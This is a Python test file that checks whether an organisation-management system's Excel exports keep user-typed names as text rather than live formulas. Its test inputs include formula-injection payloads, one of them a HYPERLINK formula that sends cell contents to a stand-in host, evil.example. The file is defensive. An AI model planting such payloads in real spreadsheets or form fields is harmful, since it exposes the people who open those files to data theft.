"""Downloaded workbooks hold what people typed as text, never as formulas (ACC-3's codes workbook): an org named
`=1+1` or `=HYPERLINK(...)` must not become a live formula in the spreadsheet of whoever opens it."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from factories import ROOT_ADMIN_ID, ROOT_ADMIN_PASSWORD, add_org

from zhtj.graphql.ids import encode_id
from zhtj.infrastructure.excel import workbook

CREATE = """mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) {
  organization { id } errors { code field } } }"""
ISSUE_ALL = """mutation($input: IssueAdminCodesInput!) { issueAdminCodes(input: $input) {
  downloadUrl errors { code } } }"""
TYPED = ("=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点击领取")', "+1+2", "-3+4", "@SUM(1)")


async def test_org_names_come_back_as_text_not_formulas_ACC3_ORG3(client, root, uow):
    province = await add_org(uow, root, "江苏团省委")
    token = await client.login_as(ROOT_ADMIN_ID, ROOT_ADMIN_PASSWORD)
    for i, name in enumerate(TYPED):
        made = await client.query(CREATE, {"input": {"parentId": encode_id("Organization", province.id),
                                                     "category": "团委", "shortName": f"{name}团委{i}",
                                                     "fullName": name, "industry": "党政机关"}})
        assert made["createOrganization"]["errors"] == []
    url = (await client.query(ISSUE_ALL, {"input": {"orgId": encode_id("Organization", province.id)}}))[
        "issueAdminCodes"]["downloadUrl"]
    content = (await client.http.get(url, headers={"Authorization": f"Bearer {token}"})).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(TYPED)
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value is not None)
    assert all(c.quotePrefix for c in cells)  # Excel keeps them text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        assert b"<f>" not in xlsx.read("xl/worksheets/sheet1.xml")


def test_every_cell_of_any_workbook_is_a_value_ORG3():
    sheet = openpyxl.load_workbook(io.BytesIO(workbook("表", ["=标题"], [[t] for t in TYPED]))).active
    assert [c.value for c in sheet["A"]] == ["=标题", *TYPED]
    assert {c.data_type for c in sheet["A"]} == {"s"}
